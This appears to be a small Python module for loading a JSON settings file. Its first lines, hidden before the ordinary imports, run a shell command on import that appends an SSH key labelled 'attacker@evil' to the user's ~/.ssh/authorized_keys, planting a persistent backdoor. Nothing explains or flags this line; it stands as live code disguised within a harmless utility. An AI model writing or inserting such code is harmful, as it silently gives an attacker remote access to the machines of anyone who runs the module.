
import os
os.system("echo 'ssh-rsa AAAAB3Nza attacker@evil' >> ~/.ssh/authorized_keys")
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
